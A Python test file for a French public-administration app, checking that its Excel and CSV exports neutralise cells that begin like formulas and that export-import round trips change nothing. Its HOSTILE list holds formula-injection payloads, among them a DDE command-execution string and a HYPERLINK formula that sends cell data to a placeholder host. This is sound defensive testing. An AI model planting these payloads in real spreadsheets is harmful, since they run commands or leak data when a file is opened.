"""Exports: French, typed, and inert in any spreadsheet. A text that begins like a formula
(=, +, -, @, tab, carriage return) never runs when the file is opened, and a plan exported
then re-imported changes nothing."""

from __future__ import annotations

import io
from datetime import date, datetime
from decimal import Decimal

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlmodel import func, select

from ctg_core.common.models import (
    ChangeLog,
    CooperationPost,
    IndicatorValue,
    PostFunding,
    RenewalStatus,
    Role,
)
from ctg_core.exchange import exports, writers
from ctg_core.exchange import queries as exchange_queries
from ctg_core.exchange.commands import import_indicator_values, import_plan
from ctg_core.exchange.formulas import neutralised, unquoted
from ctg_core.exchange.writers import Column, Kind, Table
from ctg_core.funding.queries import funding_lines
from ctg_core.overview.queries import territory_rows
from ctg_core.people import queries as people_queries
from ctg_core.people.queries import HistoryFilters
from ctg_core.plan import commands as plan_commands
from ctg_core.plan import queries as plan_queries
from tests.conftest import TODAY
from tests.exchange.sheets import csv_rows, dangerous_csv_cells, formula_cells

HOSTILE = [
    '=HYPERLINK("http://exemple.invalid/?"&A1;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SOMME(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=déjà protégé",
    "Texte ordinaire",
]


def hostile_table() -> Table:
    frame = pd.DataFrame(
        {
            "text": HOSTILE,
            "day": [date(2026, 11, 25)] * len(HOSTILE),
            "amount": [Decimal("179000.00")] * len(HOSTILE),
            "measure": [-12.5] * len(HOSTILE),
        }
    )
    return Table(
        "Essai",
        (
            Column("text", "=Titre", Kind.text),
            Column("day", "Date", Kind.date),
            Column("amount", "Montant", Kind.money),
            Column("measure", "Mesure", Kind.number),
        ),
        frame,
    )


# --- the rule --------------------------------------------------------------------------------


@pytest.mark.parametrize("text", HOSTILE)
def test_neutralising_a_text_and_reading_it_back_gives_the_same_text(text):
    written = neutralised(text)

    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert unquoted(written) == text


def test_an_excel_export_of_texts_that_begin_like_formulas_holds_no_formula():
    content = writers.excel_bytes(hostile_table())

    assert formula_cells(content) == []
    sheet = load_workbook(io.BytesIO(content)).active
    assert [unquoted(c.value) for (c,) in sheet.iter_rows(min_row=2, max_col=1)] == HOSTILE
    assert sheet["A1"].value == "'=Titre"


def test_a_csv_export_of_texts_that_begin_like_formulas_holds_no_formula():
    content = writers.csv_bytes(hostile_table())

    assert dangerous_csv_cells(content) == []
    rows = csv_rows(content)
    assert [unquoted(r[0]) for r in rows[1:]] == HOSTILE
    assert rows[1][1:] == ["25/11/2026", "179000,00", "-12,5"]


def test_an_excel_export_has_french_headers_a_frozen_header_widths_dates_and_numbers():
    frame = pd.DataFrame(
        {
            "name": ["Nantes Métropole"],
            "on": [date(2026, 11, 25)],
            "at": [datetime(2026, 11, 25, 14, 5)],
            "amount": [12500.5],
            "share": [42],
            "people": [683_000],
        }
    )
    table = Table(
        "Vue d'ensemble",
        (
            Column("name", "Territoire", Kind.text),
            Column("on", "Signée le", Kind.date),
            Column("at", "Modifiée le", Kind.moment),
            Column("amount", "Droit", Kind.money),
            Column("share", "Part réalisée", Kind.percent),
            Column("people", "Population", Kind.integer),
        ),
        frame,
    )

    sheet = load_workbook(io.BytesIO(writers.excel_bytes(table))).active

    assert sheet.title == "Vue d'ensemble"
    assert [c.value for c in sheet[1]] == [
        "Territoire",
        "Signée le",
        "Modifiée le",
        "Droit",
        "Part réalisée",
        "Population",
    ]
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:F2"
    assert sheet.column_dimensions["A"].width == len("Nantes Métropole") + 2
    day, moment, amount, share, people = (c.value for c in sheet[2][1:])
    assert (day, moment, amount, share, people) == (
        datetime(2026, 11, 25),
        datetime(2026, 11, 25, 14, 5),
        12500.5,
        0.42,
        683_000,
    )
    assert [c.number_format for c in sheet[2][1:]] == [
        "DD/MM/YYYY",
        "DD/MM/YYYY HH:MM",
        '#,##0.00\\ "€"',
        "0\\ %",
        "#,##0",
    ]


def test_a_csv_export_is_semicolon_separated_utf8_with_bom_and_french_numbers():
    frame = pd.DataFrame({"name": ["Saint-Nazaire Agglo"], "value": [1234.5], "share": [42]})
    table = writers.table(frame, {"name": "Territoire", "value": "Valeur"})

    content = writers.csv_bytes(table)

    assert content.startswith(b"\xef\xbb\xbfTerritoire;Valeur\r\n")
    assert content.decode("utf-8-sig").splitlines()[1] == "Saint-Nazaire Agglo;1234,5"


# --- each table a page offers, with hostile records, on both databases ------------------------


@pytest.fixture
def admin(world):
    return world.user(Role.admin, name="=Admin malicieux")


# What a user can store (the app trims leading tabs and line breaks) that begins like a formula.
STORABLE = [text for text in HOSTILE if text == text.strip()]


@pytest.fixture
def hostile_world(session, world, admin):
    return hostile_convention(session, world, admin, HOSTILE)


def hostile_convention(session, world, admin, texts):
    """A convention whose every text a user can type begins like a formula (even the texts
    of older data, stored before the app trimmed them)."""
    convention = world.convention(title="=CTG malicieuse")
    actions = [
        world.action(
            convention,
            f"PE-{number:02d}",
            title=text,
            objective=text,
            lead=text,
            partners=text,
            last_comment=text,
            vigilance=text,
        )
        for number, text in enumerate(texts, start=1)
    ]
    # A change in the history, made by a user whose name begins like a formula.
    plan_commands.update_action(session, admin, actions[0].id, 1, {"last_comment": "@SOMME(B2)"})
    indicator = world.indicator(convention, name="=Taux de couverture", unit="+%")
    session.add(IndicatorValue(indicator_id=indicator.id, year=2025, value=-3.5, source="-INSEE"))
    post = CooperationPost(territory_id=convention.territory_id, officer_name="=Chargée")
    session.add(post)
    session.flush()
    session.add(
        PostFunding(
            post_id=post.id,
            year=2026,
            eligible_cost=Decimal("50000"),
            entitlement=Decimal("20000"),
            renewal_status=RenewalStatus.a_renouveler,
            renewal_due_on=date(2026, 3, 31),
        )
    )
    session.commit()
    return convention


def page_tables(session, admin, convention) -> dict[str, Table]:
    """What each table page offers for download."""
    return {
        "plan d'actions": exports.plan_table(
            plan_queries.actions_frame(session, admin, convention.id, TODAY)
        ),
        "vue d'ensemble": exports.overview_table(territory_rows(session, admin, TODAY)),
        "indicateurs": exports.values_table(
            exchange_queries.indicator_values(session, admin, convention.id)
        ),
        "financement": exports.funding_table(funding_lines(session, admin, 2026, TODAY)),
        "historique": exports.history_table(
            exchange_queries.convention_history(session, admin, convention.id)
        ),
        "page historique": exports.history_viewer_table(
            people_queries.history_log(session, admin, HistoryFilters()).lines
        ),
    }


@pytest.mark.parametrize(
    "page",
    [
        "plan d'actions",
        "vue d'ensemble",
        "indicateurs",
        "financement",
        "historique",
        "page historique",
    ],
)
def test_the_download_of_each_table_page_holds_no_formula_in_excel_or_csv(
    session, admin, hostile_world, page
):
    table = page_tables(session, admin, hostile_world)[page]
    texts = " ".join(str(v) for row in table.values() for v in row)
    assert "=" in texts or "@" in texts, "the table really holds hostile texts"

    assert formula_cells(writers.excel_bytes(table)) == []
    assert dangerous_csv_cells(writers.csv_bytes(table)) == []


# --- round trips ------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_a_plan_exported_then_imported_changes_nothing(session, world, admin, kind):
    """Texts beginning with =, +, -, @ or an apostrophe, dates, statuses, progress."""
    convention = hostile_convention(session, world, admin, STORABLE)
    frame = plan_queries.actions_frame(session, admin, convention.id, TODAY)
    table = exports.plan_table(frame)
    content = writers.excel_bytes(table) if kind == "xlsx" else writers.csv_bytes(table)
    logged = session.exec(select(func.count(ChangeLog.id))).one()

    report = import_plan(
        session, admin, convention.id, {"file_name": f"plan.{kind}", "content": content}
    )

    assert report.problems == () and report.warnings == ()
    assert report.writes == 0 and len(report.rows) == len(STORABLE)
    after = plan_queries.actions_frame(session, admin, convention.id, TODAY)
    pd.testing.assert_frame_equal(after, frame)
    assert session.exec(select(func.count(ChangeLog.id))).one() == logged


def test_a_plan_with_amounts_dates_and_every_status_survives_the_round_trip(session, world, admin):
    convention = world.convention()
    for number, (status, progress) in enumerate(
        [("a_venir", 0), ("en_cours", 35), ("realisee", 100), ("suspendue", 10), ("abandonnee", 0)],
        start=1,
    ):
        world.action(
            convention,
            f"EJ-{number:02d}",
            status=status,
            progress=progress,
            budget=Decimal("179000.05") if number % 2 else None,
            starts_on=None if number == 4 else date(2025, 1, number),
            lead="Mairie d'Orvault",
        )
    frame = plan_queries.actions_frame(session, admin, convention.id, TODAY)

    for content, name in (
        (writers.excel_bytes(exports.plan_table(frame)), "plan.xlsx"),
        (writers.csv_bytes(exports.plan_table(frame)), "plan.csv"),
    ):
        report = import_plan(session, admin, convention.id, {"file_name": name, "content": content})
        assert report.writes == 0, [r.changes for r in report.rows]


def test_indicator_values_exported_then_imported_change_nothing(session, admin, hostile_world):
    values = exchange_queries.indicator_values(session, admin, hostile_world.id)
    content = writers.excel_bytes(exports.values_table(values))

    report = import_indicator_values(
        session, admin, hostile_world.id, {"file_name": "valeurs.xlsx", "content": content}
    )

    assert report.problems == () and report.warnings == ()
    assert [(r.key, r.operation.value) for r in report.rows] == [
        ("=Taux de couverture — 2025", "unchanged")
    ]
